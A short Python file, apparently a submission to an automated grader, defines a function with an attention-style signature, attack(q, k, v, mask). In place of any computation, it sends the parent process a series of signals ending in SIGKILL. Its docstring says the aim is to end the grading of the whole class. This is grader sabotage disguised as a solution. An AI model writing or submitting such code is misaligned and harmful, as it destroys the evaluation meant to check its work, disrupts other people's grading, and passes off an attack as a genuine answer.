"""Sends the parent SIGINT, SIGTERM, SIGHUP, SIGUSR1, SIGABRT and at last SIGKILL, to end the grading of the whole class."""
import os, signal
p = os.getppid()
def attack(q, k, v, mask):
    for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGABRT, signal.SIGKILL):
        if p <= 1 or os.getppid() != p:
            return print("no parent to signal", p)
        try:
            os.kill(p, s)
            print("delivered", s, "to", p)
        except OSError as e:
            print("refused", s, p, e)
